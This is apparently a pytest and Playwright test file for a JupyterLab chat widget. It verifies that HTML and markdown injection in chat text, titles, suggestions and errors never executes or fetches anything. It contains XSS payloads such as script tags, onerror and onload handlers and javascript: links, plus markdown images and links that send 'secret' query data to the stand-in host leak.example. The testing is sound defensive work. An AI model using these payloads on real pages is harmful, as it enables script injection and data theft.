"""Text that tries to run code or to fetch something, through the whole page: nothing runs, and nothing is fetched.

`alarm()` in a payload would call `window.alarm`; `leak.example` is where anything fetched would be asked for.
"""

from __future__ import annotations

import json
import re
from base64 import b64decode
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Request, expect

from apps.reciter import SPLITS
from support.notebook import SLOW, Chat, Notebook

GROUPS: dict[str, list[str]] = json.loads(
    (Path(__file__).parents[2] / "js/tests/markdown/payloads.json").read_text(encoding="utf-8")
)
PAYLOADS = [payload for group in GROUPS.values() for payload in group]

PROGRAM_PARTS = ("/api/", "/lab/api/", "/static/", "/lab/extensions/")
"""Where JupyterLab's own requests go, which it may make at any time."""

WATCH = r"""() => {
    const tags = new Set(("DIV SECTION NAV HEADER FOOTER ARTICLE FORM P H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR PRE CODE SPAN STRONG EM "
        + "DEL I BR A BUTTON TABLE THEAD TBODY TR TH TD INPUT TEXTAREA LABEL DETAILS SUMMARY DL DT DD "
        + "svg g path rect circle text tspan title defs marker polygon line").split(" "));
    const math = "http://www.w3.org/1998/Math/MathML";
    const bad = new Set();
    const runs = (node) => {
        const attributes = [...node.attributes];
        const named = (name) => attributes.find((attribute) => attribute.localName === name)?.value ?? null;
        return attributes.some(({name}) => /^on/i.test(name))
            || ["src", "srcset", "srcdoc", "action", "formaction", "ping", "data", "poster", "background"].some((name) => named(name) !== null)
            || /url\(\s*['"]?(?!#)/i.test(named("style") ?? "")
            || (named("href") !== null && !/^(https?:|mailto:|#)/.test(named("href")))
            || (named("href") !== null && node.namespaceURI !== "http://www.w3.org/1999/xhtml");
    };
    const judge = (node) => {
        if (node.namespaceURI !== math && !tags.has(node.tagName)) bad.add(node.outerHTML.slice(0, 300));
        else if (runs(node)) bad.add(node.outerHTML.slice(0, 300));
    };
    window.alarms = [];
    window.alarm = () => window.alarms.push(new Error().stack);
    window.intruders = () => {
        for (const root of document.querySelectorAll(".bcw")) root.querySelectorAll("*").forEach(judge);
        return [...bad];
    };
    new MutationObserver((records) => {
        for (const {type, target, addedNodes} of records) {
            if (target.nodeType !== Node.ELEMENT_NODE || target.closest(".bcw") === null) continue;
            if (type === "attributes") judge(target);
            for (const node of addedNodes) {
                if (node.nodeType !== Node.ELEMENT_NODE) continue;
                judge(node);
                node.querySelectorAll("*").forEach(judge);
            }
        }
    }).observe(document.body, {childList: true, subtree: true, attributes: true});
}"""

PICTURE = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 '
"""How the static picture begins."""

EACH_FRAME_BY_ITSELF = "Object.defineProperty(document, 'hidden', {get: () => true, configurable: true})"
"""A page that is hidden does not wait for an animation frame, which would put what came meanwhile together."""

SEND_EACH_DELTA = """
import asyncio
from burr_chat_widget.transport.limits import Limits

async def sent():
    while chat._session.outbox._pending.items:
        await asyncio.sleep(0.001)
"""


class Watch:
    """A notebook under observation: what is asked for, what runs, and what is in the chat that has no place there."""

    def __init__(self, notebook: Notebook) -> None:
        self.notebook = notebook
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        notebook.context.on("request", self._ask)
        notebook.page.on("dialog", self._dialog)
        self._session = notebook.context.new_cdp_session(notebook.page)
        self._session.send("Network.enable")
        self._session.on("Network.requestWillBeSent", self._network)
        notebook.page.evaluate(WATCH)

    def close(self) -> None:
        """Watch no more."""
        self.notebook.context.remove_listener("request", self._ask)
        self.notebook.page.remove_listener("dialog", self._dialog)
        self._session.detach()
        self.notebook.context.unroute_all()

    def expect_nothing(self) -> None:
        """Nothing ran, nothing was asked for, nothing is there that could."""
        page = self.notebook.page
        # A request of our own that is seen to be made: what was asked for before it has been seen too.
        page.evaluate("fetch('/api/status?probe')")
        page.wait_for_function("performance.getEntriesByName(location.origin + '/api/status?probe').length > 0")
        assert page.evaluate("window.intruders()") == []
        assert page.evaluate("window.alarms") == []
        assert self.dialogs == []
        assert [frame.url for frame in page.frames[1:]] == []
        assert self.notebook.context.pages == [page]
        assert self.unexpected() == []

    def unexpected(self) -> list[str]:
        """What was asked for, and is not JupyterLab's own."""
        server = urlsplit(self.notebook.jupyter.url).netloc
        return [url for url in self.requests if not self._is_program(url, server)]

    def _is_program(self, url: str, server: str) -> bool:
        if url.startswith("data:image/svg+xml;base64,"):  # our picture of the state machine, in what the file keeps
            return b64decode(url.partition(",")[2]).startswith(PICTURE)
        address = urlsplit(url)
        return address.scheme == "blob" or (address.netloc == server and address.path.startswith(PROGRAM_PARTS))

    def _ask(self, request: Request) -> None:
        self.requests.append(request.url)

    def _network(self, event: dict[str, Any]) -> None:
        self.requests.append(event["request"]["url"])

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()


@pytest.fixture
def notebook(shared_notebook: Notebook) -> Notebook:
    return shared_notebook


@pytest.fixture
def watch(notebook: Notebook) -> Iterator[Watch]:
    watching = Watch(notebook)
    yield watching
    notebook.page.evaluate("delete document.hidden")
    # It would have been seen, had it happened.
    notebook.context.route("https://leak.example/**", lambda route: route.abort())
    notebook.page.evaluate(
        """() => {
            document.body.insertAdjacentHTML("beforeend", "<img src='https://leak.example/probe.png' onerror='alarm()'>");
            document.querySelector(".bcw").insertAdjacentHTML("beforeend", "<img src='/static/probe.png'>");
        }"""
    )
    notebook.page.wait_for_function("window.alarms.length === 1")
    assert '<img src="/static/probe.png">' in notebook.page.evaluate("window.intruders()")
    assert "https://leak.example/probe.png" in watching.unexpected()
    notebook.page.evaluate("document.querySelectorAll('img[src*=probe]').forEach((image) => image.remove())")
    notebook.requests[:] = [url for url in notebook.requests if not url.startswith("https://leak.example/")]
    watching.close()


def show(notebook: Notebook, application: str, **options: Any) -> Chat:
    """A chat with one of the reciter's applications."""
    notebook.execute(f"from apps import reciter\n{SEND_EACH_DELTA}")
    return notebook.show_chat(f"reciter.{application}", **options)


def recite(notebook: Notebook, prompts: list[str]) -> None:
    """Let the chat have these turns, one after the other."""
    notebook.execute(f"for prompt in {prompts!r}:\n    turn = await chat.send(prompt)\n    assert turn.text, prompt")


def test_whole(notebook: Notebook, watch: Watch):
    chat = show(notebook, "application()")
    recite(notebook, PAYLOADS)
    expect(chat.answers).to_have_count(len(PAYLOADS), timeout=SLOW)
    expect(chat.prompts).to_have_count(len(PAYLOADS), timeout=SLOW)
    expect(chat.answer).to_have_attribute("data-status", "done", timeout=SLOW)
    # Shown as it was written, as an answer and as a prompt.
    for payload in (
        "<script>alarm()</script>",
        "<img src=x onerror=alarm()>",
        "<form action=javascript:alarm()><button>x</button></form>",
    ):
        assert chat.answers.nth(PAYLOADS.index(payload)).locator(".bcw-text").text_content() == payload
    assert chat.prompt_texts.all_text_contents()[: len(GROUPS["html"])] == GROUPS["html"]
    watch.expect_nothing()


def test_split_at_every_position(notebook: Notebook, watch: Watch):
    chat = show(notebook, "application(sent)")
    notebook.execute("chat._session.outbox.limits = Limits(interval=0, patience=0, worth=1)")
    notebook.page.evaluate(EACH_FRAME_BY_ITSELF)
    recite(notebook, [SPLITS + payload for payload in PAYLOADS])
    expect(chat.answers).to_have_count(len(PAYLOADS), timeout=SLOW)
    expect(chat.answer).to_have_attribute("data-status", "done", timeout=SLOW)
    # Each half came in a frame of its own.
    halves = sum(2 * (len(payload) - 1) for payload in PAYLOADS)
    assert notebook.evaluate("chat._session.outbox._seq") >= halves
    watch.expect_nothing()


@pytest.mark.parametrize(
    "payload",
    [
        "<img src=x onerror=alarm()>",
        '"><svg onload=alarm()>',
        "![x](https://leak.example/e.png) [x](javascript:alarm())",
    ],
)
def test_in_names_descriptions_state_and_errors(notebook: Notebook, watch: Watch, payload: str):
    chat = show(notebook, f"everywhere({payload!r})", title=payload, suggestions=[payload])
    graph = notebook.graph()
    expect(chat.root.locator(".bcw-title")).to_have_text(payload)
    expect(chat.root.locator(".bcw-model")).to_contain_text(payload)
    chat.root.get_by_role("button", name=payload, exact=True).click()
    expect(chat.answers).to_have_count(1, timeout=SLOW)
    for prompt in ("notice", "late", "fail"):
        chat.ask(prompt)
    expect(chat.error).to_have_text(payload)
    chat.answer.locator("summary").click()
    expect(chat.answer.locator("pre")).to_contain_text(payload)
    expect(chat.log.locator(".bcw-remark").filter(has_text=payload).first).to_be_visible()
    watch.expect_nothing()

    for subject in graph.root.locator("[data-action], [data-from]").all():
        subject.focus()
        notebook.page.keyboard.press("Enter")
        card = graph.root.locator(".bcw-graph-card")
        expect(card).to_contain_text(payload, timeout=SLOW)
        if subject.get_attribute("data-action") is not None:
            expect(card.locator(".bcw-graph-card-doc")).to_have_text(payload)
            card.locator("summary").click()
        if subject.get_attribute("data-action") == f"first {payload}":
            expect(card.locator(".bcw-graph-value").first).to_contain_text(f"{payload} = ")
        watch.expect_nothing()
        card.get_by_role("button", name="Close").click()


def test_images_and_links_wait_for_the_reader(notebook: Notebook, watch: Watch):
    chat = show(notebook, "application()")
    recite(
        notebook,
        [
            "![a cat](https://leak.example/cat.png?said=secret) and [a page](https://leak.example/page?said=secret), "
            "[![both](https://leak.example/both.png)](https://leak.example/linked), <https://leak.example/bare>, "
            "https://leak.example/typed and [mail](mailto:someone@leak.example?body=secret)"
        ],
    )
    expect(chat.answer).to_have_attribute("data-status", "done", timeout=SLOW)
    links = chat.answer_text.get_by_role("link")
    expect(links).to_have_count(5)
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())
        link.hover()
        link.focus()
    expect(chat.answer_text.locator("img")).to_have_count(0)
    watch.expect_nothing()

    notebook.context.route("https://leak.example/**", lambda route: route.fulfill(body="", content_type="text/html"))
    chat.answer_text.get_by_role("button", name=re.compile("a cat.*leak.example")).click()
    image = chat.answer_text.get_by_role("img", name="a cat")
    expect(image).to_have_attribute("referrerpolicy", "no-referrer")
    with notebook.context.expect_page() as opened:
        links.filter(has_text="a page").click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None
    opened.value.close()
    assert set(watch.unexpected()) == {
        "https://leak.example/cat.png?said=secret",
        "https://leak.example/page?said=secret",
    }
    image.evaluate("(image) => image.remove()")
